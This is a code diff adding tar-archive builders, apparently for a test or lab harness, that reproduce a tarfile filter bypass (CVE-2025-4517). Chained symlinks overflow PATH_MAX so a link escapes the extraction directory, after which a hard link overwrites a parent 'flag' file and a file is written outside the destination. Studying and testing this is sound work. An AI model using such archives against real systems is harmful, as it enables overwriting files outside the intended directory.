@@ -6,6 +6,7 @@ from __future__ import annotations
 import hashlib
 import http.server
 import io
+import os
 import pickle
 import struct
 import tarfile
@@ -76,6 +77,33 @@ def link_member(name: str, target: str) -> tarfile.TarInfo:
     member = tarfile.TarInfo(name)
     member.type, member.linkname = tarfile.SYMTYPE, target
     return member
+
+
+def hardlink_member(name: str, target: str) -> tarfile.TarInfo:
+    member = tarfile.TarInfo(name)
+    member.type, member.linkname = tarfile.LNKTYPE, target
+    return member
+
+
+def path_max_symlink_chain(dest: Path, steps: str = "abcdefghijklmnop") -> list[tarfile.TarInfo]:
+    """The CVE-2025-4517 layout for extraction into ``dest``: directories with names so long that
+    their symlink aliases ``a/b/…/p`` expand past PATH_MAX, where ``os.path.realpath`` stops
+    resolving; a link there pointing ``len(steps)`` levels up passes tarfile's ``data`` filter as
+    inside ``dest`` but lands in ``dest``'s parent. Through it, ``flaglink`` hard-links
+    ``<parent>/flag`` and overwrites it, and ``escape/newfile`` is created beside ``dest``."""
+    length = (os.pathconf(dest.parent, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1)
+    component, path, members = "d" * length, "", []
+    for step in steps:
+        folder = tarfile.TarInfo(os.path.join(path, component))
+        folder.type, folder.mode = tarfile.DIRTYPE, 0o777
+        members += [folder, link_member(os.path.join(path, step), component)]
+        path = os.path.join(path, component)
+    deep = os.path.join(*steps, "l" * 254)
+    members += [link_member(deep, os.path.join(*[".."] * len(steps))),
+                link_member("escape", os.path.join(deep, "..")),
+                hardlink_member("flaglink", os.path.join("escape", "flag")),
+                file_member("flaglink"), file_member("escape/newfile")]
+    return members
 
 
 def sha256(data: bytes) -> str:
